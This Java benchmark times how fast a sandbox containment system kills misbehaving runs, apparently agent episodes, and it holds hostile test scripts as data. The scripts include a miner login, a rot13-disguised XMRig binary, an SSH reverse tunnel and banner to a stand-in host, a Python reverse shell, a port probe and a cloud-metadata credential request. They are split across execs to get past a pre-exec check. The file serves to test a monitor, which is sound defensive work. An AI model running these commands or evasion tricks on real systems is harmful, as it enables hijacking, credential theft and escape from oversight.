package dev.ale.cli.bench;

import dev.ale.core.event.SafetyEvent;
import dev.ale.core.passport.Passport;
import dev.ale.core.sandbox.ExecRequest;
import dev.ale.core.sandbox.ExecResult;
import dev.ale.core.sandbox.SandboxRequest;
import dev.ale.containment.GuardedBackend;
import dev.ale.containment.GuardedSandbox;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Time from a misbehaving act to the kill, per category. Each act is a script written into
 * {@code /workspace} by one exec and run by the next, so the pre-exec check sees only
 * {@code bash /workspace/act.sh} and the runtime path (the process sweep or the gateway's
 * records) has to catch it. The script prints {@code ACT <epoch ns>} right before the act and
 * then sleeps; act→kill is measured from that stamp, on the same realtime clock as the JVM's.
 */
final class KillLatencyBench {

    /** A script that does nothing wrong for this long after its act is "not killed". */
    private static final int SLEEP_AFTER_ACT_S = 8;
    private static final Duration EXEC_TIMEOUT = Duration.ofSeconds(30);
    private static final Pattern STAMP = Pattern.compile("^ACT (\\d{16,20})$", Pattern.MULTILINE);

    /** One category of act: its name, what the script does, and the script. */
    record Act(String category, String what, String script) {
    }

    static final List<Act> ACTS = List.of(
            new Act("mining", "stratum login (XMRig agent) to 198.51.100.7:3333 over /dev/tcp", """
                    echo "ACT $(date +%s%N)"
                    exec 3<>/dev/tcp/198.51.100.7/3333
                    printf '%s\\n' '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}' >&3
                    sleep %SLEEP%
                    """),
            // the marks are written in rot13, so neither the command nor the script names a miner (octal escapes are decoded)
            new Act("mining-renamed", "a copy of sleep carrying XMRig's marks, run as /tmp/.gc-worker: only its content tells", """
                    cp /bin/sleep /tmp/.gc-worker
                    echo '%s' | tr 'A-Za-z' 'N-ZA-Mn-za-m' >> /tmp/.gc-worker
                    echo "ACT $(date +%%s%%N)"
                    /tmp/.gc-worker %%SLEEP%%
                    """.formatted("KZEvt/6.21.0 fgenghz+gpc:// zvavat.fhofpevor qbangr-yriry EnaqbzK")),
            new Act("tunnel", "SSH banner to 203.0.113.77:22 over /dev/tcp", """
                    echo "ACT $(date +%s%N)"
                    exec 3<>/dev/tcp/203.0.113.77/22
                    printf 'SSH-2.0-OpenSSH_9.2p1\\r\\n' >&3
                    sleep %SLEEP%
                    """),
            new Act("tunnel-ssh", "real `ssh -N -R 2222:localhost:22 agent@203.0.113.77` started by the script", """
                    echo "ACT $(date +%s%N)"
                    ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \\
                        -o ConnectTimeout=20 -N -R 2222:localhost:22 agent@203.0.113.77 2>/dev/null
                    sleep %SLEEP%
                    """),
            new Act("reverse-shell", "python3 with fds 0-2 dup2'd to a socket to a listener on the sandbox's 127.0.0.1, then sh -i", """
                    cat > /workspace/listen.py <<'EOF'
                    import socket, time
                    l = socket.socket()
                    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                    l.bind(("127.0.0.1", 4444))
                    l.listen(1)
                    c, _ = l.accept()
                    time.sleep(60)
                    EOF
                    cat > /workspace/rs.py <<'EOF'
                    import os, socket, subprocess, sys, time
                    s = socket.socket()
                    for _ in range(100):
                        try:
                            s.connect(("127.0.0.1", 4444)); break
                        except OSError:
                            time.sleep(0.05)
                    print("ACT", time.time_ns(), flush=True)
                    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
                    subprocess.call(["/bin/sh", "-i"])
                    EOF
                    python3 /workspace/listen.py &
                    python3 /workspace/rs.py
                    sleep %SLEEP%
                    """),
            new Act("probe", "connect to 10.0.0.5:22, send nothing", """
                    echo "ACT $(date +%s%N)"
                    exec 3<>/dev/tcp/10.0.0.5/22
                    sleep %SLEEP%
                    """),
            new Act("metadata", "connect to 169.254.169.254:80 and send a GET", """
                    echo "ACT $(date +%s%N)"
                    exec 3<>/dev/tcp/169.254.169.254/80
                    printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3
                    sleep %SLEEP%
                    """));

    /**
     * One category's figures. {@code killedBy} counts the rule each killed run's result names;
     * {@code firstKillEvent} counts the rule of the first KILL event the run raised (the two differ
     * when a later event's kill lands first); {@code failures} says what happened in runs not killed.
     * {@code toEvent} ends at the event's own time, which for a gateway record is when the connection
     * was seen, not when it was judged; {@code toDelivered} ends when the judged event reached a listener.
     */
    record CategoryResult(Act act, int runs, int killed, Samples toEvent, Samples toDelivered, Samples toReturn, Samples toProcessEnd,
                          Map<String, Integer> killedBy, Map<String, Integer> firstKillEvent, Map<String, Integer> sources,
                          List<String> failures) {
    }

    record Result(int runs, List<CategoryResult> categories) {
    }

    private final GuardedBackend containment;
    private final Passport passport = Passport.defaults();

    /** When each sandbox's first KILL event reached a listener: after the kill switch (which kills on its own thread) and the audit log had it. */
    private final Map<String, Instant> delivered = new ConcurrentHashMap<>();

    KillLatencyBench(GuardedBackend containment) {
        this.containment = containment;
        containment.listen(e -> {
            if (e.action() == SafetyEvent.Action.KILL) delivered.putIfAbsent(e.sandbox(), Instant.now());
        });
    }

    /** {@code runs} of every act, the categories taking turns so that machine noise hits all alike. */
    Result run(int runs, List<Act> acts) {
        List<Acc> accs = new ArrayList<>();
        for (Act a : acts) accs.add(new Acc(a, runs));
        for (int i = 0; i < runs; i++) {
            for (int k = 0; k < accs.size(); k++) {
                Acc acc = accs.get((i + k) % accs.size());
                once(acc, i);
            }
        }
        return new Result(runs, accs.stream().map(Acc::result).toList());
    }

    private void once(Acc acc, int round) {
        String script = acc.act.script().replace("%SLEEP%", String.valueOf(SLEEP_AFTER_ACT_S));
        try (GuardedSandbox g = containment.create(SandboxRequest.of(passport)
                .forEpisode("bench-" + acc.act.category() + "-" + round))) {
            ExecResult write = g.exec(ExecRequest.of("sh", "-c", "cat > /workspace/act.sh")
                    .withStdin(script.getBytes(StandardCharsets.UTF_8)).withTimeout(EXEC_TIMEOUT));
            if (write.exitCode() != 0 || write.killed()) {
                acc.failures.add("writing the script: exit " + write.exitCode() + write.reason().map(r -> ", " + r).orElse("")
                        + " " + write.stderr().strip());
                return;
            }
            Instant started = Instant.now();
            ExecResult r = g.exec(ExecRequest.of("bash", "/workspace/act.sh").withTimeout(EXEC_TIMEOUT));
            Instant returned = Instant.now();
            Matcher m = STAMP.matcher(r.stdout());
            if (!m.find()) {
                acc.failures.add("no ACT stamp (exit " + r.exitCode() + r.reason().map(x -> ", " + x).orElse("") + "): "
                        + clip(r.stderr().strip()));
                return;
            }
            Instant act = Instant.EPOCH.plusNanos(Long.parseLong(m.group(1)));
            Optional<SafetyEvent> firstKill = r.events().stream().filter(e -> e.action() == SafetyEvent.Action.KILL).findFirst();
            if (!r.killed()) {
                acc.failures.add("not killed: exit " + r.exitCode() + ", events "
                        + r.events().stream().map(e -> e.rule() + "/" + e.action().name().toLowerCase(Locale.ROOT)).toList());
                return;
            }
            acc.killed++;
            acc.toReturn.add(Duration.between(act, returned).toNanos());
            Instant seen = delivered.remove(g.id());
            if (seen != null) acc.toDelivered.add(Duration.between(act, seen).toNanos());
            // the sandbox's exec ends when the kill switch's SIGKILL lands; Guarded.exec then waits for the sink to settle
            acc.toProcessEnd.add(Duration.between(act, started.plus(r.duration())).toNanos());
            acc.killedBy.merge(r.reason().orElse("(none named)"), 1, Integer::sum);
            firstKill.ifPresent(e -> {
                acc.toEvent.add(Duration.between(act, e.time()).toNanos());
                acc.firstKillEvent.merge(e.rule(), 1, Integer::sum);
                acc.sources.merge(e.evidence().getOrDefault("source", "?"), 1, Integer::sum);
            });
        }
    }

    private static String clip(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "…" : s;
    }

    private static final class Acc {
        final Act act;
        final Samples toEvent;
        final Samples toDelivered;
        final Samples toReturn;
        final Samples toProcessEnd;
        final Map<String, Integer> killedBy = new TreeMap<>();
        final Map<String, Integer> firstKillEvent = new TreeMap<>();
        final Map<String, Integer> sources = new TreeMap<>();
        final List<String> failures = new ArrayList<>();
        int killed;
        final int runs;

        Acc(Act act, int runs) {
            this.act = act;
            this.runs = runs;
            this.toEvent = new Samples(runs);
            this.toDelivered = new Samples(runs);
            this.toReturn = new Samples(runs);
            this.toProcessEnd = new Samples(runs);
        }

        CategoryResult result() {
            return new CategoryResult(act, runs, killed, toEvent, toDelivered, toReturn, toProcessEnd, sorted(killedBy),
                    sorted(firstKillEvent), sorted(sources), List.copyOf(failures));
        }

        private static Map<String, Integer> sorted(Map<String, Integer> m) {
            return Collections.unmodifiableMap(new TreeMap<>(m));
        }
    }
}
